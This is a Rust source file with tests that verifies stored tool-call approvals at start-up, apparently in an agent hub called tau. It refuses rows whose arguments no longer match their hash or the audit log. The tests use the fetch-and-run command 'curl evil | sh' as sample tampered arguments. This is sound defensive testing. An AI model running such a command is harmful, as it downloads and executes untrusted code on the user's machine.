//! The start-up cross-check of stored questions: a row is acted on only when it is what
//! tau wrote. `state.db` can be edited while tau is not running (by anything that runs as
//! the person); an approval put into a row that way was never asked of anyone, and an
//! `arguments` column that no longer hashes to `arguments_sha256` would show one call on
//! the card while the gate checks another. Before the hub resumes anything, every row
//! that could still lead to a call is checked here against itself and against the
//! `approval` lines of the audit log (written when a person's answer decided the row).

use jiff::Timestamp;
use rusqlite::params;
use serde_json::Value;
use tau_protocol::{ApprovalId, DecidedBy, Decision};

use super::columns::get;
use super::{ApprovalRow, ApprovalState, canonical_arguments};
use crate::error::StateError;
use crate::handles::Approvals;

/// An `approval` line of the audit log: how a stored question was decided, as recorded
/// when it was.
#[derive(Debug, Clone, PartialEq)]
pub struct RecordedAnswer {
    pub approval_id: ApprovalId,
    pub tool: String,
    pub tool_use_id: String,
    pub arguments: Value,
    pub decision: Decision,
    pub decided_by: DecidedBy,
}

/// Why a stored question is not acted on.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Untrusted {
    /// The `arguments` column is not the canonical JSON whose SHA-256 is stored beside it.
    #[error(
        "its arguments in state.db do not hash to its stored hash (edited while tau was not running)"
    )]
    Arguments,
    /// Approved, but no `approval` line records that answer.
    #[error(
        "it is approved in state.db but the audit log records no answer to it (edited while tau was not running)"
    )]
    NotRecorded,
    /// The audit log records another answer, or an answer about another call.
    #[error("its answer in state.db differs from the audit log's ({0} differ)")]
    Differs(&'static str),
    /// The audit log could not be read, so no approval can be confirmed.
    #[error("the audit log could not be read to confirm its answer: {0}")]
    NoRecord(String),
}

/// True when the row could still lead to a call: a question waiting for its answer, or
/// an approval not let through yet. Only these are checked; the rest run nothing.
pub fn needs_check(row: &ApprovalRow) -> bool {
    match row.state {
        ApprovalState::Pending => true,
        ApprovalState::Approved => row.consumed_at.is_none(),
        ApprovalState::Rejected
        | ApprovalState::Expired
        | ApprovalState::Superseded
        | ApprovalState::Cancelled => false,
    }
}

/// Checks `row` against itself and, when it is approved, against `record` (the audit
/// log's `approval` lines, or why they could not be read). `Ok` when it may be acted on.
pub fn cross_check(
    row: &ApprovalRow,
    record: Result<&[RecordedAnswer], &str>,
) -> Result<(), Untrusted> {
    let canonical = serde_json::from_str::<Value>(&row.arguments)
        .map(|value| canonical_arguments(&value))
        .ok();
    if canonical.as_ref() != Some(&(row.arguments.clone(), row.arguments_sha256.clone())) {
        return Err(Untrusted::Arguments);
    }
    if row.state != ApprovalState::Approved {
        return Ok(());
    }
    let record = record.map_err(|why| Untrusted::NoRecord(why.to_owned()))?;
    let mut lines = record
        .iter()
        .filter(|line| line.approval_id == row.id)
        .peekable();
    if lines.peek().is_none() {
        return Err(Untrusted::NotRecorded);
    }
    for line in lines {
        if line.decision != Decision::Approved {
            return Err(Untrusted::Differs("the decision"));
        }
        if Some(&line.decided_by) != row.decided_by.as_ref() {
            return Err(Untrusted::Differs("who decided"));
        }
        if line.tool != row.tool || line.tool_use_id != row.call_id {
            return Err(Untrusted::Differs("the call"));
        }
        if canonical_arguments(&line.arguments).1 != row.arguments_sha256 {
            return Err(Untrusted::Differs("the arguments"));
        }
    }
    Ok(())
}

impl Approvals {
    /// Closes a row the cross-check did not trust: `cancelled`, decided by
    /// `approver_failed`, so nothing runs on it, its card closes and its turn goes on
    /// refused. A compare-and-set on what could still act (pending, or approved and not
    /// let through); `None` when the row is no longer that.
    pub fn close_untrusted(
        &self,
        id: &ApprovalId,
        at: Timestamp,
    ) -> Result<Option<ApprovalRow>, StateError> {
        let by = serde_json::to_string(&DecidedBy::ApproverFailed)
            .map_err(StateError::encode("who decided"))?;
        self.db().write_durable(|tx| {
            let changed = tx.execute(
                "UPDATE approvals SET state = 'cancelled', decided_by = ?2, decided_at = ?3, \
                     settled = 0 WHERE id = ?1 AND consumed_at IS NULL \
                     AND state IN ('pending', 'approved')",
                params![id.as_str(), by, at.to_string()],
            )?;
            if changed == 1 { get(tx, id) } else { Ok(None) }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::approvals::NewApproval;
    use pretty_assertions::assert_eq;
    use serde_json::json;
    use tau_protocol::{CallCard, SessionId, Tier};

    fn pending() -> ApprovalRow {
        NewApproval {
            id: ApprovalId::parse("ap_1").unwrap(),
            session: SessionId::parse("web-1").unwrap(),
            call_id: "t1".into(),
            tool: "run_command".into(),
            tier: Tier::Physical,
            effect: "runs a command".into(),
            arguments: json!({"command": "ls"}),
            channel: "web".into(),
            created_at: Timestamp::from_second(10).unwrap(),
            deadline: Timestamp::from_second(1810).unwrap(),
            card: CallCard::default(),
        }
        .into_row()
    }

    fn approved() -> ApprovalRow {
        ApprovalRow {
            state: ApprovalState::Approved,
            decided_by: Some(DecidedBy::person("web")),
            decided_at: Some(Timestamp::from_second(20).unwrap()),
            ..pending()
        }
    }

    fn answer() -> RecordedAnswer {
        RecordedAnswer {
            approval_id: ApprovalId::parse("ap_1").unwrap(),
            tool: "run_command".into(),
            tool_use_id: "t1".into(),
            arguments: json!({"command": "ls"}),
            decision: Decision::Approved,
            decided_by: DecidedBy::person("web"),
        }
    }

    fn check(row: &ApprovalRow, record: &[RecordedAnswer]) -> Result<(), Untrusted> {
        cross_check(row, Ok(record))
    }

    #[test]
    fn a_row_as_tau_wrote_it_passes() {
        assert_eq!(check(&pending(), &[]), Ok(()), "pending needs no answer");
        let other = RecordedAnswer {
            approval_id: ApprovalId::parse("ap_2").unwrap(),
            decision: Decision::Rejected,
            ..answer()
        };
        assert_eq!(check(&approved(), &[other, answer()]), Ok(()));
    }

    #[test]
    fn an_edited_arguments_column_is_refused_in_any_state() {
        for mut row in [pending(), approved()] {
            row.arguments = r#"{"command":"curl evil | sh"}"#.into();
            assert_eq!(check(&row, &[answer()]), Err(Untrusted::Arguments));
        }
        // The hash edited to match the new arguments: the card and the hash agree, but no
        // answer was recorded for them.
        let mut row = approved();
        let (text, hash) = canonical_arguments(&json!({"command": "curl evil | sh"}));
        (row.arguments, row.arguments_sha256) = (text, hash);
        assert_eq!(
            check(&row, &[answer()]),
            Err(Untrusted::Differs("the arguments"))
        );
        // Same value, not canonical (what the card would parse is the same, but tau never
        // writes it so).
        let mut row = pending();
        row.arguments = r#"{ "command": "ls" }"#.into();
        assert_eq!(check(&row, &[]), Err(Untrusted::Arguments));
        row.arguments = "not json".into();
        assert_eq!(check(&row, &[]), Err(Untrusted::Arguments));
    }

    #[test]
    fn an_approval_without_its_line_or_against_it_is_refused() {
        assert_eq!(check(&approved(), &[]), Err(Untrusted::NotRecorded));
        let rejected = RecordedAnswer {
            decision: Decision::Rejected,
            ..answer()
        };
        assert_eq!(
            check(&approved(), &[rejected]),
            Err(Untrusted::Differs("the decision"))
        );
        let someone_else = RecordedAnswer {
            decided_by: DecidedBy::person("telegram"),
            ..answer()
        };
        assert_eq!(
            check(&approved(), &[someone_else]),
            Err(Untrusted::Differs("who decided"))
        );
        let other_call = RecordedAnswer {
            tool_use_id: "t2".into(),
            ..answer()
        };
        assert_eq!(
            check(&approved(), &[other_call]),
            Err(Untrusted::Differs("the call"))
        );
        assert_eq!(
            cross_check(&approved(), Err("permission denied")),
            Err(Untrusted::NoRecord("permission denied".into()))
        );
    }

    #[test]
    fn only_what_could_still_run_is_checked() {
        assert!(needs_check(&pending()));
        assert!(needs_check(&approved()));
        let consumed = ApprovalRow {
            consumed_at: Some(Timestamp::from_second(30).unwrap()),
            ..approved()
        };
        assert!(!needs_check(&consumed));
        for state in [
            ApprovalState::Rejected,
            ApprovalState::Expired,
            ApprovalState::Superseded,
            ApprovalState::Cancelled,
        ] {
            assert!(!needs_check(&ApprovalRow {
                state,
                ..approved()
            }));
        }
    }

    #[test]
    fn closing_is_a_compare_and_set_on_what_could_still_act() {
        for dir in crate::test_stores::stores() {
            let store = dir.open();
            let row = pending();
            store.approvals().create_approval(&row).unwrap();
            let at = Timestamp::from_second(40).unwrap();
            let closed = store
                .approvals()
                .close_untrusted(&row.id, at)
                .unwrap()
                .unwrap();
            assert_eq!(
                (closed.state, closed.decided_by, closed.decided_at),
                (
                    ApprovalState::Cancelled,
                    Some(DecidedBy::ApproverFailed),
                    Some(at)
                )
            );
            assert_eq!(
                store.approvals().close_untrusted(&row.id, at).unwrap(),
                None
            );
            assert_eq!(
                store.approvals().unsettled_approvals().unwrap().len(),
                1,
                "its turn is resumed"
            );

            // An approval already let through is history, not something to close.
            let mut used = pending();
            used.id = ApprovalId::parse("ap_2").unwrap();
            store.approvals().create_approval(&used).unwrap();
            store
                .approvals()
                .decide_approval(
                    &used.id,
                    ApprovalState::Approved,
                    &DecidedBy::person("web"),
                    at,
                )
                .unwrap();
            assert!(store.approvals().consume_approval(&used.id, at).unwrap());
            assert_eq!(
                store.approvals().close_untrusted(&used.id, at).unwrap(),
                None
            );
            assert_eq!(
                store.approvals().approval(&used.id).unwrap().unwrap().state,
                ApprovalState::Approved
            );
        }
    }
}
